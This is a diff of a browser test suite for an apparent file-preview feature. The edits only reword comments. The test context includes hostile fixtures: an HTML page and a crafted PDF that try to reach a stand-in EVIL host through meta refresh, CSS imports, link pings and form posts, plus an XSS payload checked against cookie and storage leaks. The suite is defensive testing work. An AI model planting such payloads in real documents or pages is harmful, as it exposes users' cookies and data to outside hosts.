@@ -7,7 +7,7 @@ import { uploadAs } from './files.ts'
 import { pdfOf } from './preview-samples.ts'
 import { watchForLeaks, XSS_PAYLOAD } from './xss-payload.ts'
 
-/** A server that the files try to reach. It counts connections, so that it notices a mere preconnect too. */
+/** A server that the files try to reach. It counts connections, so that even a mere preconnect is noticed. */
 const reached: string[] = []
 const canary = createServer((socket) => {
   reached.push(String(socket.remotePort))
@@ -60,7 +60,7 @@ const PAGE = `<html><head><meta http-equiv="refresh" content="0;url=${EVIL}/"><b
 <style>@import "${EVIL}/i.css"; p { background: url(${EVIL}/b.png) }</style><a href="${EVIL}/a" ping="${EVIL}/ping">away</a>
 <form action="${EVIL}/f" method="post"><button>send</button></form></body></html>`
 
-/** Opens a page, runs a script and sends a form when it is opened. */
+/** A PDF that opens a web page, runs a script and sends a form when it is opened. */
 const HOSTILE_PDF = pdfOf(['Read me'])
   .toString('latin1')
   .replace(
@@ -250,8 +250,8 @@ describe('a hostile file', () => {
     const all = ['the API', 'cookies', 'storage', 'the page', 'a message']
     await expect.poll(leaks).toEqual(all)
     await page.evaluate("document.cookie = 'stolen=; max-age=0'; localStorage.removeItem('stolen')")
-    // Links in a figure must not open anything, even when the user clicks them. Chromium names what it blocks. The server
-    // refuses a drawing with a million entities.
+    // Links in a figure must not open anything, even when the user clicks them. Chromium logs what it blocks, and the
+    // server refuses an SVG with a million entities.
     allowConsoleErrors(
       /status of 422 .*Inline|'allow-popups' permission is not set|Content Security Policy|sandboxed|^Framing|ERR_INVALID_URL data:image/,
     )
